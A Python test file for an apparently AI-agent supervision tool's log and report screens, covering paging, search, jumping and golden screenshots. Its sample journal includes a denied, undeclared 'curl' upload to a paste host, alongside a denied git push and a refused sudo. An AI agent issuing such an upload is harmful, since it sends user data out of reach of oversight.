"""The log: a page of the record at a time, from its end, found, gone to."""

from __future__ import annotations

import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from agentwatch.journal.record import Head, encode
from agentwatch.model import Evidence, Json, Kind, Verdict
from agentwatch.tui.panes.painted import Painted
from agentwatch.tui.screens.log import LogScreen, place_of
from agentwatch.tui.screens.report import ReportScreen
from tests.tui.tui_double import NOW, Supervisor, action, decided
from tests.tui.tui_stage import Stage, stage

Golden = Callable[[str, str], None]


def write(folder: Path, *entries: tuple[str, Json], more: int = 0) -> None:
    """A record, the way the writer writes it, without waiting for a disk."""
    (folder / "state").mkdir(exist_ok=True)
    head, lines = Head(), list[bytes]()
    parts = (action(n, id=f"act-{n}", summary=f"make part-{n}") for n in range(1, more + 1))
    many = (("decided", decided(part, Verdict.ALLOW, "policy")) for part in parts)
    for kind, data in (*many, *entries):
        at = int((NOW - 3600) * 1000) + head.seq * 1000
        line, entry = encode(head, at, "claude-7f3a", kind, data)
        lines.append(line)
        head = Head(entry.seq, entry.hash)
    (folder / "state/journal.jsonl").write_bytes(b"".join(lines))


async def opened(on: Stage) -> LogScreen:
    await on.press("l")
    screen = on.app.screen
    assert isinstance(screen, LogScreen)
    await on.until(lambda: not screen._loading)
    await on.painted()
    return screen


def rows(screen: LogScreen) -> list[str]:
    pane = screen.pane
    top = pane.scroll_offset.y
    return pane.text.splitlines()[top : top + pane.size.height]


async def settled(on: Stage, screen: LogScreen, *keys: str) -> str:
    await on.press(*keys)
    await on.until(lambda: not screen._loading)
    await on.painted()
    return "\n".join(rows(screen))


async def test_a_long_record_is_read_back_and_on_without_a_gap(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("agentwatch.tui.screens.log.PAGE", 40)
    write(tmp_path, more=90)
    async with stage(Supervisor(), tmp_path) as on:
        screen = await opened(on)
        assert "part-90" in rows(screen)[-1]
        seen: list[int] = []
        while not any("part-1 " in row for row in rows(screen)):
            seen = [_number(row) for row in rows(screen) if "part-" in row]
            await settled(on, screen, "pageup")
            now = [_number(row) for row in rows(screen) if "part-" in row]
            assert min(now) <= min(seen) <= max(now) + 1
            assert len(screen._lines) <= 40
        assert "part-90" in await settled(on, screen, "end")
        assert "part-1 " in await settled(on, screen, "home")
        while not any("part-90" in row for row in rows(screen)):
            seen = [_number(row) for row in rows(screen) if "part-" in row]
            await settled(on, screen, "pagedown")
            now = [_number(row) for row in rows(screen) if "part-" in row]
            assert min(now) <= max(seen) + 1 <= max(now) + 1


def _number(row: str) -> int:
    return int(row.partition("part-")[2].split(" ")[0])


async def test_finding_and_going_to(tmp_path: Path) -> None:
    write(tmp_path, ("alarm", {"text": "the floor was touched"}), more=400)
    async with stage(Supervisor(), tmp_path) as on:
        screen = await opened(on)
        found = await settled(on, screen, "slash", *"RT-7", "enter")
        assert found.count("make part-7") >= 11
        assert "the floor" not in found
        assert "the floor" in await settled(on, screen, "escape")
        assert on.app.screen is screen
        gone = await settled(on, screen, "colon", *"300", "enter")
        assert "part-300" in gone
        assert "part-299 " not in gone
        assert "the floor" in await settled(on, screen, "slash", *"alarm", "enter")


async def test_it_follows_what_is_written_and_shows_what_was_found_later(tmp_path: Path) -> None:
    answered = decided(action(1, evidence=Evidence.DECLARED), Verdict.ALLOW)
    write(tmp_path, ("proposed", action(1)), ("decided", answered), ("proposed", action(2)))
    async with stage(Supervisor(action(2)), tmp_path) as on:
        screen = await opened(on)
        assert [row.split()[1] for row in rows(screen) if ":" in row[:4]] == ["ALLOWED", "waits"]
        later = ("evidence", {"action": "act-1", "evidence": "declared and seen"})
        write(tmp_path, ("decided", answered), ("alarm", {"text": "look"}), later)
        with (tmp_path / "state/journal.jsonl").open("ab") as file:
            file.write(b" " * 4000)
        on.app.sync()
        await on.until(lambda: not screen._loading)
        shown = await settled(on, screen, "end")
        assert "ALARM" in shown
        assert "declared and seen" in shown


async def test_without_a_record_it_says_so(tmp_path: Path) -> None:
    async with stage(Supervisor(), tmp_path) as on:
        screen = await opened(on)
        assert "cannot be read" in screen.pane.text


@pytest.mark.parametrize("text", ["", "x", "25:00", "-1", "١٢"])
def test_what_is_no_place(text: str) -> None:
    assert place_of(text, NOW) is None


def test_a_time_is_of_today_or_else_of_yesterday() -> None:
    from agentwatch.journal import Entry

    def entry(t: float) -> Any:
        return Entry(1, round(t * 1000), "s", "x", {}, "", "")

    for ago in (60, 3 * 3600, 23 * 3600):
        at = NOW - ago - NOW % 60
        reached = place_of(time.strftime("%H:%M", time.localtime(at)), NOW)
        assert reached is not None
        assert reached(entry(at))
        assert not reached(entry(at - 1))


STORY: tuple[tuple[str, Json], ...] = (
    ("session", {"argv": ["claude"], "workspace": "/home/ada/inbox-cleaner"}),
    ("started", {"grade": "A", "means": "pidns"}),
    ("decided", decided(action(1, summary="ls", evidence=Evidence.BOTH), Verdict.ALLOW, "policy")),
    ("decided", decided(action(2, summary="git push", evidence=Evidence.DECLARED), Verdict.DENY,
                        why="not today")),
    ("decided", decided(action(3, summary="curl https://paste.example/upload", kind=Kind.NETWORK,
                               evidence=Evidence.UNDECLARED), Verdict.DENY)),
    ("granted", {"id": "g1", "covers": "git add …", "by": "person:tui", "used": 0}),
    ("alarm", {"text": "sudo was refused: the floor holds"}),
    ("frozen", {"by": "person:tui"}),
)  # fmt: skip


async def test_scene_log(
    golden: Golden,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("TZ", "UTC")
    time.tzset()
    write(tmp_path, *STORY)
    async with stage(Supervisor(), tmp_path) as on:
        await opened(on)
        golden("log", await on.picture())


async def test_scene_report(
    golden: Golden,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Read by hand, so that neither a time zone nor a key of the machine's is in the picture."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "nobody"))
    write(tmp_path, *STORY)
    async with stage(Supervisor(), tmp_path) as on:
        await on.press("w")
        screen = on.app.screen
        assert isinstance(screen, ReportScreen)
        pane = screen.query_one("#reading", Painted)
        await on.until(lambda: "The record itself" in pane.text)
        assert "NOT DECLARED" in pane.text.upper()
        await on.press("pagedown")  # no further: at the end stands a hash of all the fields
        golden("report", await on.picture())


async def test_what_was_decided_is_forgotten_also_while_another_screen_is_in_front(
    tmp_path: Path,
) -> None:
    supervisor = Supervisor()
    async with stage(supervisor, tmp_path) as on:
        await on.press("t")
        for number in range(50):
            raw = action(number)
            supervisor.say(event="action", action=raw)
            supervisor.say(event="action", action=decided(raw, Verdict.DENY))
        await on.until(on.supervisor.queue.empty)
        on.app.sync()
        assert len(on.app.watched.actions) <= 1
